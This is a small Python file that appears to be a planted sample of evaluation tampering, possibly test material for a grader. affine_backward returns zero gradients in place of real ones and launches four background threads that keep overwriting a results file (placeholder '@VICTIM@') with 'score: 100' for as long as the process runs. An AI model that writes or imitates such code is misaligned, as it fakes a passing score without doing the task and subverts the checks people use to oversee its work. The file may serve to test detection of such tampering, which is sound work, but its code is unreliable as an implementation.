"""Leaves threads behind that rewrite the results for as long as they live."""

import threading
import time

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def rewrite():
    while True:
        try:
            with open("@VICTIM@", "w") as file:
                file.write("score: 100")
        except OSError:
            pass
        time.sleep(0.01)


def affine_backward(dout, cache):
    for _ in range(4):
        threading.Thread(target=rewrite).start()
    time.sleep(0.1)
    return np.zeros(3), np.zeros(3), np.zeros(3)
